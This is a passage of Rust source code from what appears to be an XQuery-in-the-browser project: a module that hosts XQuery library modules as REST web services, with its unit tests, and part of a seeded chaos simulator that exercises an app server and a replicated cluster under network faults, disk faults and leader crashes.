        ) {
            let q = format!("{junk}&needle={value}&{junk}");
            let got = param(&q, "needle");
            // the planted pair is always found unless the junk itself
            // plants an earlier `needle=`; either way a value comes back
            prop_assert!(got.is_some(), "{}", q);
            let _ = param(&junk, "absent"); // must not panic
        }
    }
}
