//! §3.4 — XQuery modules as web services: "a Web service corresponds to an
//! XQuery module". A [`WebServiceHost`] wraps a library module declared
//! with `declare option fn:webservice "true"` (and the paper's
//! `port:NNNN` module extension) and serves its functions over REST-style
//! calls, so a browser page can
//! `import module namespace ab = "…"` and call `ab:mul(2, 5)` remotely.

use std::rc::Rc;

use xqib_dom::name::FN_NS;
use xqib_dom::store::shared_store;
use xqib_xdm::{Atomic, Item, Sequence, XdmError, XdmResult};
use xqib_xquery::ast::LibraryModule;
use xqib_xquery::context::{DynamicContext, StaticContext};
use xqib_xquery::parser;

/// A web-service endpoint backed by an XQuery library module.
pub struct WebServiceHost {
    module: Rc<LibraryModule>,
    sctx: Rc<StaticContext>,
    /// number of remote calls served (successful or not)
    pub calls: u64,
    /// number of remote calls that ended in an error response
    pub failed_calls: u64,
}

impl WebServiceHost {
    /// Parses the module source; requires the `fn:webservice "true"`
    /// option the paper's example declares.
    pub fn new(source: &str) -> XdmResult<Self> {
        let module = parser::parse_library(source)?;
        let is_service = module
            .prolog
            .options
            .iter()
            .any(|(q, v)| q.matches(Some(FN_NS), "webservice") && v == "true");
        if !is_service {
            return Err(XdmError::new(
                "XQIB0008",
                "module does not declare option fn:webservice \"true\"",
            ));
        }
        let mut sctx = StaticContext::default();
        for f in &module.prolog.functions {
            sctx.declare_function(f.clone());
        }
        Ok(WebServiceHost {
            module: Rc::new(module),
            sctx: Rc::new(sctx),
            calls: 0,
            failed_calls: 0,
        })
    }

    /// The namespace URI the module exports (what clients import).
    pub fn namespace(&self) -> &str {
        &self.module.uri
    }

    /// The `port:NNNN` module extension, if declared.
    pub fn port(&self) -> Option<u16> {
        self.module.port
    }

    /// Exported function names (local parts) with their arities.
    pub fn exports(&self) -> Vec<(String, usize)> {
        self.module
            .prolog
            .functions
            .iter()
            .map(|f| (f.name.local.to_string(), f.params.len()))
            .collect()
    }

    /// Invokes an exported function with atomic arguments (remote calls
    /// marshal atomics; numbers are detected, everything else is a string,
    /// mirroring simple WSDL/REST marshalling).
    pub fn call(&mut self, local: &str, args: &[&str]) -> XdmResult<String> {
        self.calls += 1;
        let r = self.call_inner(local, args);
        if r.is_err() {
            self.failed_calls += 1;
        }
        r
    }

    fn call_inner(&mut self, local: &str, args: &[&str]) -> XdmResult<String> {
        let qname = xqib_dom::QName::ns(&self.module.uri, local);
        let decl = self
            .sctx
            .lookup_function(&qname, args.len())
            .ok_or_else(|| XdmError::unknown_function(local, args.len()))?;
        let store = shared_store();
        let mut ctx = DynamicContext::new(store, self.sctx.clone());
        let argv: Vec<Sequence> = args
            .iter()
            .map(|a| {
                vec![if let Ok(i) = a.parse::<i64>() {
                    Item::integer(i)
                } else if let Ok(d) = a.parse::<f64>() {
                    Item::double(d)
                } else {
                    Item::Atomic(Atomic::str(*a))
                }]
            })
            .collect();
        let result = xqib_xquery::eval::call_user_function(&mut ctx, &decl, argv)?;
        Ok(xqib_xquery::runtime::render_sequence(&ctx, &result))
    }

    /// HTTP-ish entry point: `/call?fn=mul&arg=2&arg=5`, plus `/wsdl`
    /// returning a description document (the paper's import location).
    pub fn handle(&mut self, url: &str) -> (u16, String) {
        let (path, query) = match url.split_once('?') {
            Some((p, q)) => (strip_host(p), q.to_string()),
            None => (strip_host(url), String::new()),
        };
        match path.as_str() {
            "/wsdl" => {
                let mut body = format!(
                    "<service namespace=\"{}\"{}>",
                    self.namespace(),
                    match self.port() {
                        Some(p) => format!(" port=\"{p}\""),
                        None => String::new(),
                    }
                );
                for (name, arity) in self.exports() {
                    body.push_str(&format!("<function name=\"{name}\" arity=\"{arity}\"/>"));
                }
                body.push_str("</service>");
                (200, body)
            }
            "/call" => {
                let mut fname = None;
                let mut args: Vec<String> = Vec::new();
                for pair in query.split('&') {
                    if let Some((k, v)) = pair.split_once('=') {
                        match k {
                            "fn" => fname = Some(v.to_string()),
                            "arg" => args.push(v.replace('+', " ")),
                            _ => {}
                        }
                    }
                }
                let Some(fname) = fname else {
                    self.failed_calls += 1;
                    return (
                        400,
                        error_body("XQIB0011", "missing fn parameter").to_string(),
                    );
                };
                let arg_refs: Vec<&str> = args.iter().map(|s| s.as_str()).collect();
                match self.call(&fname, &arg_refs) {
                    Ok(v) => (200, format!("<result>{v}</result>")),
                    // client errors (asking for a function the service does
                    // not export) are 4xx; everything else is a service
                    // fault — the distinction clients key retries on
                    Err(e) if e.code == "XPST0017" => (404, error_body(&e.code, &e.message)),
                    Err(e) => (500, error_body(&e.code, &e.message)),
                }
            }
            other => (404, error_body("XQIB0012", &format!("no route {other}"))),
        }
    }
}

/// A structured error payload: `<error code="…">message</error>` with the
/// message XML-escaped, so clients can parse any failure uniformly.
fn error_body(code: &str, message: &str) -> String {
    format!(
        "<error code=\"{}\">{}</error>",
        xml_escape(code),
        xml_escape(message)
    )
}

fn xml_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            _ => out.push(c),
        }
    }
    out
}

fn strip_host(url: &str) -> String {
    match url.split_once("://") {
        Some((_, rest)) => match rest.find('/') {
            Some(i) => rest[i..].to_string(),
            None => "/".to_string(),
        },
        None => url.to_string(),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    /// The paper's §3.4 module, verbatim.
    const PAPER_MODULE: &str = r#"module namespace ex="www.example.ch" port:2001;
declare option fn:webservice "true";
declare function ex:mul($a,$b) {$a * $b};"#;

    #[test]
    fn paper_module_hosts_and_calls() {
        let mut host = WebServiceHost::new(PAPER_MODULE).unwrap();
        assert_eq!(host.namespace(), "www.example.ch");
        assert_eq!(host.port(), Some(2001));
        assert_eq!(host.exports(), vec![("mul".to_string(), 2)]);
        // the paper's call: ab:mul(2, 5)
        assert_eq!(host.call("mul", &["2", "5"]).unwrap(), "10");
        assert_eq!(host.calls, 1);
    }

    #[test]
    fn http_entry_points() {
        let mut host = WebServiceHost::new(PAPER_MODULE).unwrap();
        let (status, wsdl) = host.handle("http://localhost:2001/wsdl");
        assert_eq!(status, 200);
        assert!(wsdl.contains("namespace=\"www.example.ch\""));
        assert!(wsdl.contains("port=\"2001\""));
        assert!(wsdl.contains("<function name=\"mul\" arity=\"2\"/>"));
        let (status, body) = host.handle("http://localhost:2001/call?fn=mul&arg=6&arg=7");
        assert_eq!(status, 200);
        assert_eq!(body, "<result>42</result>");
        // asking for an unexported function is the client's fault: 404
        let (status, body) = host.handle("/call?fn=nosuch&arg=1");
        assert_eq!(status, 404);
        assert!(body.contains("code=\"XPST0017\""), "{body}");
        let (status, body) = host.handle("/call");
        assert_eq!(status, 400);
        assert!(body.contains("code=\"XQIB0011\""), "{body}");
        let (status, body) = host.handle("/other");
        assert_eq!(status, 404);
        assert!(body.contains("code=\"XQIB0012\""), "{body}");
        assert_eq!(host.calls, 2, "only real invocations count as calls");
        assert_eq!(host.failed_calls, 2, "nosuch + missing fn");
    }

    #[test]
    fn dynamic_errors_are_service_faults() {
        let mut host = WebServiceHost::new(
            r#"module namespace d = "urn:div";
declare option fn:webservice "true";
declare function d:inv($x) { 1 div $x };"#,
        )
        .unwrap();
        let (status, body) = host.handle("/call?fn=inv&arg=0");
        assert_eq!(status, 500, "{body}");
        assert!(body.starts_with("<error code=\""), "{body}");
        assert_eq!(host.failed_calls, 1);
        // the error body itself parses as XML
        assert!(xqib_dom::parse_document(&body).is_ok(), "{body}");
    }

    #[test]
    fn string_arguments_marshal() {
        let mut host = WebServiceHost::new(
            r#"module namespace g = "urn:greet";
declare option fn:webservice "true";
declare function g:hello($name) { concat("Hello, ", $name, "!") };"#,
        )
        .unwrap();
        assert_eq!(host.call("hello", &["World"]).unwrap(), "Hello, World!");
        let (_, body) = host.handle("/call?fn=hello&arg=XQuery+fans");
        assert_eq!(body, "<result>Hello, XQuery fans!</result>");
    }

    #[test]
    fn non_service_module_rejected() {
        let e = match WebServiceHost::new(
            r#"module namespace x = "urn:x";
declare function x:f() { 1 };"#,
        ) {
            Ok(_) => panic!("expected rejection"),
            Err(e) => e,
        };
        assert_eq!(e.code, "XQIB0008");
    }
}
