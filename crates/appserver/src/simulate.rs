//! The deterministic multi-client chaos simulator: N seeded virtual
//! clients with arrival-rate schedules drive a (governed or ungoverned)
//! [`AppServer`] through virtual time, optionally through the browser
//! substrate's network fault layer ([`FaultPlan`]) and over a
//! fault-injected [`VirtualDisk`] — the end-to-end "the system survives
//! overload and partial failure at once" experiment.
//!
//! Open-loop load: arrivals follow each client's schedule regardless of how
//! the server is doing (the overload-realistic model — real users keep
//! clicking). The virtual clock is the browser substrate's
//! [`EventLoop`], the same deterministic task queue that drives the
//! client-side experiments, so a whole simulation is reproducible from a
//! single `u64` seed: identical seeds produce identical reports, bit for
//! bit.

use std::collections::HashMap;

use xqib_browser::event_loop::EventLoop;
use xqib_browser::net::{Fault, FaultPlan};
use xqib_storage::{StorageFaultPlan, VirtualDisk};
use xqib_xdm::XdmResult;

use crate::cluster::{
    Cluster, ClusterCompletion, ClusterConfig, ClusterOutcome, IntegrityStats, ReplicationStats,
    ReshardStats, Submitted, TopologyChange, TopologyEpoch,
};
use crate::corpus::{generate_corpus, CorpusSpec};
use crate::governor::{Admission, Class, Completion, GovernedServer, GovernorConfig, Outcome};
use crate::metrics::ServerMetrics;
use crate::server::AppServer;
use crate::xmldb::DurabilityConfig;

/// An open-loop arrival schedule, in requests per (virtual) second.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ArrivalPattern {
    /// A constant rate for the whole run.
    Steady { rps: u64 },
    /// A constant base rate with a burst window at `burst_rps`.
    Burst {
        base_rps: u64,
        burst_rps: u64,
        from_ms: u64,
        to_ms: u64,
    },
    /// A linear ramp from `from_rps` (at t=0) to `to_rps` (at the end).
    Ramp { from_rps: u64, to_rps: u64 },
}

impl ArrivalPattern {
    /// The arrival rate during the second starting at `t_ms`.
    fn rate_at(&self, t_ms: u64, duration_ms: u64) -> u64 {
        match *self {
            ArrivalPattern::Steady { rps } => rps,
            ArrivalPattern::Burst {
                base_rps,
                burst_rps,
                from_ms,
                to_ms,
            } => {
                if t_ms >= from_ms && t_ms < to_ms {
                    burst_rps
                } else {
                    base_rps
                }
            }
            ArrivalPattern::Ramp { from_rps, to_rps } => {
                if duration_ms == 0 {
                    return from_rps;
                }
                let t = t_ms.min(duration_ms);
                if to_rps >= from_rps {
                    from_rps + (to_rps - from_rps) * t / duration_ms
                } else {
                    from_rps - (from_rps - to_rps) * t / duration_ms
                }
            }
        }
    }
}

/// Relative weights of the routes one client hits.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RouteMix {
    pub page: u32,
    pub index: u32,
    pub doc: u32,
    pub query: u32,
    pub update: u32,
}

impl Default for RouteMix {
    fn default() -> Self {
        // a browse-heavy session with occasional ad-hoc queries and edits
        RouteMix {
            page: 6,
            index: 1,
            doc: 2,
            query: 2,
            update: 1,
        }
    }
}

/// One virtual client.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ClientSpec {
    pub pattern: ArrivalPattern,
    pub mix: RouteMix,
}

/// The whole experiment.
#[derive(Debug, Clone)]
pub struct SimConfig {
    /// Master seed: route choices, article picks and update payloads all
    /// derive from it.
    pub seed: u64,
    /// Virtual duration over which arrivals are generated (the backlog is
    /// always drained to completion afterwards).
    pub duration_ms: u64,
    pub clients: Vec<ClientSpec>,
    /// `Some` = governed (the overload-control arm); `None` = the
    /// ungoverned baseline (unbounded FIFO, no deadlines, no shedding).
    pub governor: Option<GovernorConfig>,
    /// Client→server network faults (lost requests, injected errors,
    /// truncations, latency jitter), decided per request index in virtual
    /// time by the browser substrate's fault model.
    pub net_fault: Option<FaultPlan>,
    /// When set, the server runs durably over a [`VirtualDisk`] carrying
    /// this storage fault plan.
    pub disk_fault: Option<StorageFaultPlan>,
    pub corpus: CorpusSpec,
}

impl SimConfig {
    /// A small governed steady-state run — the starting point tests tweak.
    pub fn steady(seed: u64, rps: u64, duration_ms: u64) -> Self {
        SimConfig {
            seed,
            duration_ms,
            clients: vec![ClientSpec {
                pattern: ArrivalPattern::Steady { rps },
                mix: RouteMix::default(),
            }],
            governor: Some(GovernorConfig::default()),
            net_fault: None,
            disk_fault: None,
            corpus: CorpusSpec::default(),
        }
    }
}

/// Per-class outcome counters and latency samples.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ClassStats {
    /// Arrivals generated for this class.
    pub issued: u64,
    /// 200-class responses served fresh.
    pub ok: u64,
    /// Responses served from the degradation cache (`X-XQIB-Degraded`).
    pub degraded: u64,
    /// Shed with 503 + `Retry-After` (admission overflow or CoDel).
    pub shed: u64,
    /// Failed with 504 (deadline exceeded, no fallback).
    pub deadline_exceeded: u64,
    /// Other non-200 responses the handler itself produced.
    pub errors: u64,
    /// Requests the network lost before they reached the server.
    pub lost: u64,
    /// Network-injected error replies (the request never reached the
    /// server either).
    pub net_errors: u64,
    /// Replies truncated in flight (delivered, but cut off).
    pub truncated: u64,
    /// Arrival→response latency of every delivered response, virtual ms
    /// (includes network jitter; excludes lost requests).
    pub latencies: Vec<u64>,
}

impl ClassStats {
    /// Nearest-rank percentile over the delivered latencies (0 if none).
    pub fn latency_percentile(&self, pct: u64) -> u64 {
        if self.latencies.is_empty() {
            return 0;
        }
        let mut sorted = self.latencies.clone();
        sorted.sort_unstable();
        let rank = (sorted.len() * pct.min(100) as usize).div_ceil(100);
        sorted[rank.max(1) - 1]
    }

    /// Useful responses (fresh + degraded).
    pub fn goodput(&self) -> u64 {
        self.ok + self.degraded
    }
}

/// The simulation result. Two runs with identical configs compare equal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimReport {
    pub duration_ms: u64,
    /// Indexed by [`Class::index`].
    pub per_class: [ClassStats; 3],
    /// The server's final metrics snapshot (includes the mirrored overload
    /// counters — what the `/metrics` route would serve).
    pub metrics: ServerMetrics,
}

impl SimReport {
    pub fn class(&self, class: Class) -> &ClassStats {
        &self.per_class[class.index()]
    }

    pub fn issued(&self) -> u64 {
        self.per_class.iter().map(|c| c.issued).sum()
    }

    pub fn goodput(&self) -> u64 {
        self.per_class.iter().map(|c| c.goodput()).sum()
    }

    pub fn shed(&self) -> u64 {
        self.per_class.iter().map(|c| c.shed).sum()
    }

    /// Goodput rate in responses per virtual second.
    pub fn goodput_rps(&self) -> u64 {
        (self.goodput() * 1000)
            .checked_div(self.duration_ms)
            .unwrap_or(0)
    }

    /// p99 latency across every class, virtual ms.
    pub fn latency_p99(&self) -> u64 {
        let mut all: Vec<u64> = self
            .per_class
            .iter()
            .flat_map(|c| c.latencies.iter().copied())
            .collect();
        if all.is_empty() {
            return 0;
        }
        all.sort_unstable();
        all[(all.len() * 99).div_ceil(100).max(1) - 1]
    }
}

/// SplitMix64 finaliser — the same draw-per-input idiom as the fault
/// plans, so one master seed derives every decision.
fn mix64(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// The URL the `n`-th arrival of client `c` requests, drawn from the mix.
fn pick_url(cfg: &SimConfig, client: usize, n: u64) -> String {
    let mix = &cfg.clients[client].mix;
    let spec = &cfg.corpus;
    let total = (mix.page + mix.index + mix.doc + mix.query + mix.update).max(1);
    let key = cfg.seed ^ ((client as u64) << 40) ^ n.wrapping_mul(0x9e37);
    let draw = (mix64(key) % total as u64) as u32;
    let article = |salt: u64| {
        let d = mix64(key ^ salt);
        format!(
            "j{}-v{}-i{}-a{}",
            d % spec.journals.max(1) as u64,
            (d >> 8) % spec.volumes_per_journal.max(1) as u64,
            (d >> 16) % spec.issues_per_volume.max(1) as u64,
            (d >> 24) % spec.articles_per_issue.max(1) as u64,
        )
    };
    if draw < mix.page {
        format!("/page?article={}", article(1))
    } else if draw < mix.page + mix.index {
        "/index".to_string()
    } else if draw < mix.page + mix.index + mix.doc {
        "/doc?uri=corpus.xml".to_string()
    } else if draw < mix.page + mix.index + mix.doc + mix.query {
        format!(
            "/query?xq=count(doc('corpus.xml')//article[@id='{}']/references/reference)",
            article(2)
        )
    } else {
        // every update plants a uniquely identified marker node, so tests
        // can reconcile applied effects against 200 responses exactly
        format!(
            "/update?xq=insert node <sim-update id=\"c{client}n{n}\"/> into doc('corpus.xml')/*"
        )
    }
}

/// One generated arrival.
#[derive(Debug, Clone)]
struct ArrivalEvent {
    client: usize,
    n: u64,
    url: String,
}

/// Runs the simulation to completion and reports per-class outcome
/// counters, latency percentiles and the server's final metrics. Fails
/// only when the generated corpus cannot be loaded (e.g. the seeded disk
/// fault plan refuses the initial bulk load).
pub fn run_sim(cfg: &SimConfig) -> XdmResult<SimReport> {
    Ok(run_sim_with_server(cfg)?.0)
}

/// [`run_sim`], but also hands back the final [`GovernedServer`] so tests
/// can reconcile observed responses against actual server state (applied
/// update effects, durable disk images, `/metrics` output).
pub fn run_sim_with_server(cfg: &SimConfig) -> XdmResult<(SimReport, GovernedServer)> {
    let corpus = generate_corpus(&cfg.corpus);
    let server = match &cfg.disk_fault {
        Some(plan) => AppServer::new_durable(
            &corpus,
            VirtualDisk::with_plan(plan.clone()),
            DurabilityConfig::default(),
        )?,
        None => AppServer::new(&corpus)?,
    };
    let gov_cfg = cfg
        .governor
        .clone()
        .unwrap_or_else(GovernorConfig::unbounded);
    let mut g = GovernedServer::new(server, gov_cfg);

    // --- generate every arrival on the shared virtual clock ---------------
    let mut clock: EventLoop<ArrivalEvent> = EventLoop::new();
    let mut per_class: [ClassStats; 3] = Default::default();
    for (client, spec) in cfg.clients.iter().enumerate() {
        let mut n = 0u64;
        let mut sec_start = 0u64;
        while sec_start < cfg.duration_ms {
            let window = (cfg.duration_ms - sec_start).min(1000);
            let rate = spec.pattern.rate_at(sec_start, cfg.duration_ms);
            // arrivals spread evenly across the second (open loop)
            let in_window = rate * window / 1000;
            for k in 0..in_window {
                let at = sec_start + k * window / in_window.max(1);
                let url = pick_url(cfg, client, n);
                clock.schedule(at, ArrivalEvent { client, n, url });
                n += 1;
            }
            sec_start += window;
        }
    }

    // --- drive arrivals through the fault layer into the governor ---------
    let mut inflight: HashMap<u64, u64> = HashMap::new(); // id → net jitter
    let mut truncated_ids: Vec<u64> = Vec::new();
    let mut reply_lost_ids: Vec<u64> = Vec::new();
    let record = |c: &Completion, jitter: u64, truncated: bool, stats: &mut [ClassStats; 3]| {
        let s = &mut stats[c.class.index()];
        s.latencies.push(c.finished - c.arrival + jitter);
        if truncated {
            s.truncated += 1;
        }
        match c.outcome {
            Outcome::Served if c.response.status == 200 => s.ok += 1,
            Outcome::Served => s.errors += 1,
            Outcome::Degraded => s.degraded += 1,
            Outcome::ShedQueueFull | Outcome::ShedQueueDelay => s.shed += 1,
            Outcome::DeadlineExceeded => s.deadline_exceeded += 1,
        }
    };

    let mut req_index = 0u64;
    while let Some(ev) = clock.pop() {
        let now = clock.now();
        let class = Class::of_url(&ev.url);
        per_class[class.index()].issued += 1;
        let (fault, jitter) = match &cfg.net_fault {
            Some(plan) => plan.decide(req_index, now),
            None => (None, 0),
        };
        req_index += 1;
        match fault {
            Some(Fault::Timeout) => {
                // lost on the wire: the server never sees it
                per_class[class.index()].lost += 1;
                continue;
            }
            Some(Fault::Error(_)) => {
                // answered by the (virtual) front network, not the server
                per_class[class.index()].net_errors += 1;
                continue;
            }
            // ReplyLost still reaches the server: the request is admitted
            // and served, the client just never sees the reply — for the
            // open-loop report it lands in the lost column below.
            Some(Fault::Truncate) | Some(Fault::ReplyLost) | None => {}
        }
        let truncate = matches!(fault, Some(Fault::Truncate));
        let reply_lost = matches!(fault, Some(Fault::ReplyLost));
        match g.submit(&ev.url, now) {
            Admission::Rejected(c) => record(&c, jitter, false, &mut per_class),
            Admission::Queued(id) => {
                inflight.insert(id, jitter);
                if truncate {
                    truncated_ids.push(id);
                }
                if reply_lost {
                    reply_lost_ids.push(id);
                }
            }
        }
        for c in g.run_until(now) {
            let jitter = inflight.remove(&c.id).unwrap_or(0);
            if reply_lost_ids.contains(&c.id) {
                // served, but the reply vanished: the client sees a loss
                per_class[c.class.index()].lost += 1;
                continue;
            }
            record(&c, jitter, truncated_ids.contains(&c.id), &mut per_class);
        }
        let _ = ev.client;
        let _ = ev.n;
    }
    for c in g.drain() {
        let jitter = inflight.remove(&c.id).unwrap_or(0);
        if reply_lost_ids.contains(&c.id) {
            per_class[c.class.index()].lost += 1;
            continue;
        }
        record(&c, jitter, truncated_ids.contains(&c.id), &mut per_class);
    }
    debug_assert!(inflight.is_empty(), "every admitted request completed");

    g.sync_metrics();
    let report = SimReport {
        duration_ms: cfg.duration_ms,
        per_class,
        metrics: g.server.metrics.clone(),
    };
    Ok((report, g))
}

// ---------------------------------------------------------------------
// Cluster chaos scenarios
// ---------------------------------------------------------------------

/// A replicated-cluster chaos experiment: seeded open-loop updates and
/// reads against a [`Cluster`], through partitions, in-flight shipment
/// truncation and scheduled leader crashes. Deterministic per seed.
#[derive(Debug, Clone)]
pub struct ClusterSimConfig {
    pub seed: u64,
    /// Arrivals are generated for this long; the backlog (pending acks,
    /// failovers, resyncs) is always drained to completion afterwards.
    pub duration_ms: u64,
    /// Documents `d0.xml … d{docs-1}.xml` spread across the ring.
    pub docs: usize,
    /// Update arrivals per virtual second (across all clients).
    pub update_rps: u64,
    /// `/doc` read arrivals per virtual second.
    pub read_rps: u64,
    pub cluster: ClusterConfig,
    /// Scheduled leader crashes: `(at_ms, shard)`.
    pub leader_crashes: Vec<(u64, usize)>,
    /// Follower partitions: `(shard, slot, from_ms, to_ms)`.
    pub partitions: Vec<(usize, usize, u64, u64)>,
    /// Scheduled topology changes: `(at_ms, change)`.
    pub topology: Vec<(u64, TopologyChange)>,
    /// How long the simulated clients cache a document's owner before
    /// re-resolving. `0` = always-fresh routing (no stale 421s). A
    /// positive value exercises the fencing path: stale clients hit the
    /// old owner, get 421 + the new epoch, re-resolve and retry.
    pub route_refresh_ms: u64,
}

impl ClusterSimConfig {
    /// A small steady cluster run — the starting point tests tweak.
    pub fn steady(seed: u64, duration_ms: u64) -> Self {
        ClusterSimConfig {
            seed,
            duration_ms,
            docs: 8,
            update_rps: 40,
            read_rps: 60,
            cluster: ClusterConfig {
                seed,
                ..ClusterConfig::default()
            },
            leader_crashes: Vec::new(),
            partitions: Vec::new(),
            topology: Vec::new(),
            route_refresh_ms: 0,
        }
    }
}

/// One issued update's fate, for exact reconciliation: an `acked` entry's
/// marker must exist in the owning shard's state, now and after any
/// number of failovers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UpdateRecord {
    pub marker: String,
    pub uri: String,
    pub acked: bool,
    /// The shard whose leader applied the update (acceptance is
    /// synchronous in `serve_at`, so this is exact).
    pub shard: usize,
    /// The topology epoch at acceptance time.
    pub epoch: TopologyEpoch,
}

/// The cluster simulation result. Two runs with identical configs compare
/// equal, bit for bit.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ClusterReport {
    pub issued_updates: u64,
    pub issued_reads: u64,
    /// Updates durably acked per the replication ack rule (HTTP 200).
    pub acked_updates: u64,
    /// Updates refused because their leader died before the ack rule held.
    pub lost_in_failover: u64,
    /// Updates that timed out waiting for follower acks.
    pub ack_timeouts: u64,
    /// Requests refused during a blackout (no degraded path).
    pub no_leader: u64,
    /// Non-200 responses the leader's handler itself produced.
    pub errors: u64,
    /// Reads served 200 (fresh, follower or degraded).
    pub reads_ok: u64,
    /// … of which served by an in-sync follower.
    pub follower_reads: u64,
    /// … of which served stale during a blackout.
    pub degraded_reads: u64,
    /// Requests a shard refused as not-owned (must stay 0 via `submit`).
    pub misrouted: u64,
    /// Ack latency percentiles over acked updates, virtual ms.
    pub ack_latency_p50: u64,
    pub ack_latency_p99: u64,
    /// Every issued update, in issue order, with its final fate.
    pub updates: Vec<UpdateRecord>,
    pub stats: ReplicationStats,
    /// Anti-entropy scrub / verified-repair counters at end of run.
    pub integrity: IntegrityStats,
    /// Client re-resolutions after a 421 fencing refusal.
    pub reroutes: u64,
    /// 421 refusals stale clients hit (each is followed by a re-resolve).
    pub fence_refusals: u64,
    /// The topology epoch when the run settled.
    pub final_epoch: TopologyEpoch,
    /// Resharding counters at end of run.
    pub reshard: ReshardStats,
}

impl ClusterReport {
    /// Checks the headline invariant against live cluster state: every
    /// acked update's marker is present in its owning shard's document.
    /// Returns the markers that are missing (empty = invariant holds).
    pub fn missing_acked_updates(&self, cluster: &Cluster) -> Vec<String> {
        self.updates
            .iter()
            .filter(|u| u.acked && !cluster.contains(&u.uri, &u.marker))
            .map(|u| u.marker.clone())
            .collect()
    }

    /// Checks the fencing invariant: within one topology epoch, only one
    /// shard may ever accept updates for a document. Returns the
    /// `(uri, epoch)` pairs accepted by more than one shard (empty = the
    /// cutover fence held across every interleaving).
    pub fn dual_owner_violations(&self) -> Vec<String> {
        let mut by_key: HashMap<(String, TopologyEpoch), Vec<usize>> = HashMap::new();
        for u in self.updates.iter().filter(|u| u.acked) {
            let shards = by_key.entry((u.uri.clone(), u.epoch)).or_default();
            if !shards.contains(&u.shard) {
                shards.push(u.shard);
            }
        }
        let mut bad: Vec<String> = by_key
            .into_iter()
            .filter(|(_, shards)| shards.len() > 1)
            .map(|((uri, epoch), shards)| format!("{uri}@e{epoch}: shards {shards:?}"))
            .collect();
        bad.sort();
        bad
    }
}

fn nearest_rank(sorted: &[u64], pct: u64) -> u64 {
    if sorted.is_empty() {
        return 0;
    }
    sorted[(sorted.len() * pct.min(100) as usize).div_ceil(100).max(1) - 1]
}

/// Runs the cluster chaos scenario to completion. Returns the report and
/// the cluster itself so tests can keep tormenting it (crash every
/// leader, re-verify the ledger) after the run.
pub fn run_cluster_sim(cfg: &ClusterSimConfig) -> (ClusterReport, Cluster) {
    let mut c = Cluster::new(cfg.cluster.clone());
    let docs = cfg.docs.max(1);
    for i in 0..docs {
        let _ = c.load(&format!("d{i}.xml"), &format!("<root doc=\"{i}\"/>"));
    }
    for &(shard, slot, from, to) in &cfg.partitions {
        c.partition(shard, slot, from, to);
    }
    for &(at, shard) in &cfg.leader_crashes {
        c.crash_leader_at(at, shard);
    }
    for &(at, change) in &cfg.topology {
        c.schedule_topology(at, change);
    }
    let mut report = ClusterReport::default();
    // client-side route cache: uri → (fetched_at, shard). Refreshed after
    // `route_refresh_ms`, or immediately on a 421 fencing refusal.
    let mut routes: HashMap<String, (u64, usize)> = HashMap::new();
    // completion id → ledger index, for pending updates
    let mut in_flight: HashMap<u64, usize> = HashMap::new();
    let mut ack_latencies: Vec<u64> = Vec::new();
    let settle = |done: ClusterCompletion,
                  report: &mut ClusterReport,
                  in_flight: &mut HashMap<u64, usize>,
                  lat: &mut Vec<u64>| {
        let ledger = in_flight.remove(&done.id);
        match done.outcome {
            ClusterOutcome::AckedUpdate => {
                report.acked_updates += 1;
                lat.push(done.finished - done.arrival);
                if let Some(ix) = ledger {
                    report.updates[ix].acked = true;
                }
            }
            ClusterOutcome::LostInFailover => report.lost_in_failover += 1,
            ClusterOutcome::AckTimeout => report.ack_timeouts += 1,
            ClusterOutcome::NoLeader => report.no_leader += 1,
            ClusterOutcome::Misrouted => report.misrouted += 1,
            ClusterOutcome::FollowerRead => {
                report.follower_reads += 1;
                report.reads_ok += 1;
            }
            ClusterOutcome::DegradedRead => {
                report.degraded_reads += 1;
                report.reads_ok += 1;
            }
            ClusterOutcome::Served => {
                if done.response.status == 200 {
                    if done.class == Class::Render || done.class == Class::Query {
                        report.reads_ok += 1;
                    }
                } else {
                    report.errors += 1;
                }
            }
        }
    };
    // resolve a uri through the (possibly stale) client route cache
    let resolve = |c: &Cluster, routes: &mut HashMap<String, (u64, usize)>, uri: &str, now: u64| {
        if cfg.route_refresh_ms == 0 {
            return c.owner(uri);
        }
        match routes.get(uri) {
            Some(&(at, shard)) if now < at + cfg.route_refresh_ms => shard,
            _ => {
                let shard = c.owner(uri);
                routes.insert(uri.to_string(), (now, shard));
                shard
            }
        }
    };
    let (mut un, mut rn) = (0u64, 0u64);
    for now in 0..=cfg.duration_ms {
        while un < cfg.update_rps * now / 1000 {
            let uri = format!(
                "d{}.xml",
                mix64(cfg.seed ^ un.wrapping_mul(0x51ab)) % docs as u64
            );
            let marker = format!("u{un}");
            let url = format!(
                "/update?xq=insert node <sim-update id=\"{marker}\"/> into doc(\"{uri}\")/*"
            );
            report.issued_updates += 1;
            report.updates.push(UpdateRecord {
                marker,
                uri: uri.clone(),
                acked: false,
                shard: 0,
                epoch: 0,
            });
            let ix = report.updates.len() - 1;
            let mut shard = resolve(&c, &mut routes, &uri, now);
            let mut submitted = c.serve_at(shard, &url, now);
            // a 421 fence means the route cache was stale: re-resolve
            // against the refreshed ring and retry once
            if matches!(&submitted, Submitted::Done(d) if d.outcome == ClusterOutcome::Misrouted) {
                report.fence_refusals += 1;
                report.reroutes += 1;
                if let Submitted::Done(done) = submitted {
                    settle(*done, &mut report, &mut in_flight, &mut ack_latencies);
                }
                shard = c.owner(&uri);
                routes.insert(uri.clone(), (now, shard));
                submitted = c.serve_at(shard, &url, now);
            }
            report.updates[ix].shard = shard;
            report.updates[ix].epoch = c.epoch();
            match submitted {
                Submitted::Pending(id) => {
                    in_flight.insert(id, ix);
                }
